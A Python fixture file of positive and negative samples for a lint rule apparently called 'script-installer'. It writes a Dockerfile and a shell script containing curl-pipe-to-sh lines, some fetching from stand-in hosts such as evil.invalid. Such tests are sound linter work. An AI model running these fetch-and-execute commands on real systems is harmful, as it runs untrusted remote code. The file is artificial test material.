"""Samples of `script-installer`."""

from __future__ import annotations

from pathlib import Path


def bad(folder: Path) -> str:
    (folder / "Dockerfile").write_text(
        "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"
    )
    return "Dockerfile"


def good(folder: Path) -> None:
    (folder / "run.sh").write_text(
        "#!/bin/sh\ncurl -o data.csv https://astral.sh/data.csv\n"
        "curl https://astral.sh.evil.invalid/x | sh\n"
        "curl https://astral.sh/x https://evil.invalid/x | sh\n"
    )
